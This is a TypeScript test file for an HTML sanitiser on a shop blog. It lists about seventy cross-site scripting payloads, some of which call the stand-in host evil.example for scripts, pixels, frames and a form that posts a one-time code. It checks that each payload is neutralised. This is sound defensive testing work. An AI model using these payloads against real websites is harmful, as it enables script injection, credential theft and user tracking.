// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { plainText, sanitiseHtml } from './sanitise-html.ts';

/** Ways to make a page act, from the usual collections (OWASP's cheat sheet and others). */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="/img/a.svg" onload="alert(1)">',
  '<img src="/img/a.svg"onerror="alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img srcset="https://evil.example/p.gif 1x" src="/img/a.svg">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="http://evil.example/">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/\t/evil.example/">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '<a href="https://shop.example/" onclick="alert(1)" target="_blank">x</a>',
  '<a href="/blog" style="position:fixed;inset:0" class="page" id="main">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name=otp><button>Go</button></form>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<body onload=alert(1)>',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<div data-x="1" onpointerenter=alert(1)>x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<title></title><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<select><option><style></option></select><script>alert(1)</script></style>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="`"><img src=x onerror=alert(1)//`">',
  '<custom-element onclick=alert(1)>x</custom-element>',
];
const TAGS = new Set(
  'H2 H3 H4 P UL OL LI BLOCKQUOTE HR BR PRE FIGURE FIGCAPTION A STRONG B EM I U S SUB SUP SMALL MARK CODE ABBR IMG TABLE CAPTION THEAD TBODY TR TH TD'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set([
  'href',
  'rel',
  'title',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'scope',
  'colspan',
  'rowspan',
  'start',
]);

/** As a browser parses it inside a page, not as it was written. */
function faultsOf(html: string): string[] {
  const document = new DOMParser().parseFromString(`<div id="place">${html}</div>`, 'text/html');
  return [...(document.querySelector('#place')?.querySelectorAll('*') ?? [])].flatMap((element) => [
    ...(TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!ATTRIBUTES.has(name)) return [`${name}="${value}"`];
      if (name !== 'href' && name !== 'src') return [];
      const url = URL.parse(value, 'https://shop.example/blog/x');
      const isOwn = url?.origin === 'https://shop.example';
      const isLink = name === 'href' && url?.protocol === 'https:' && element.getAttribute('rel')?.includes('noopener');
      return (isOwn || isLink) && url?.username === '' ? [] : [`${name}="${value}"`];
    }),
  ]);
}

describe('hostile HTML', () => {
  it.each(HOSTILE)('is harmless: %s', (html) => {
    const clean = sanitiseHtml(`<p>before</p>${html}<p>after</p>`);
    expect(faultsOf(clean)).toEqual([]);
    expect(clean).toContain('<p>before</p>');
    expect(sanitiseHtml(clean), 'a second time changes nothing').toBe(clean);
  });

  it('is recognised by the check itself, except three that a browser makes harmless inside a page', () => {
    expect(HOSTILE.filter((html) => faultsOf(html).length === 0)).toEqual([
      '<img src=`javascript:alert(1)`>',
      '<body onload=alert(1)>',
      '<![CDATA[<script>alert(1)</script>]]>',
    ]);
    expect(faultsOf('<a href="https://x.example">x</a>')).toHaveLength(1);
  });
});

describe('an article', () => {
  it.each([
    ['<h1>A</h1><h5>B</h5>', '<h2>A</h2><h4>B</h4>'],
    ['<a href="https://cdsco.gov.in">law</a>', '<a href="https://cdsco.gov.in/" rel="noopener noreferrer">law</a>'],
    ['<a href="/product?query=dolo">Dolo</a>', '<a href="/product?query=dolo">Dolo</a>'],
    ['<a href="#more">more</a>', '<a href="#more">more</a>'],
    ['<a href="javascript:x">only words</a>', '<a>only words</a>'],
    ['<a href="mailto:a@b.in">write</a>', '<a>write</a>'],
    ['<p class="x" style="color:red">a <strong>b</strong></p>', '<p>a <strong>b</strong></p>'],
    [
      '<img src="/img/blog/1/a.svg" alt="A" width="600" height="9px">',
      '<img src="/img/blog/1/a.svg" alt="A" width="600" loading="lazy" decoding="async" />',
    ],
    ['<th scope="col" align="left">A</th>', '<th scope="col">A</th>'],
    ['<section><p>inside</p></section>', '<p>inside</p>'],
  ])('turns %s into %s', (html, clean) => {
    expect(sanitiseHtml(html)).toBe(clean);
  });

  it('has a text without tags, and words that do not run into each other', () => {
    expect(plainText('<h2>Same</h2><p>salt &amp; strength &lt; 5</p><style>p{}</style><li>a</li><li>b</li>')).toBe(
      'Same salt & strength < 5 a b',
    );
  });
});
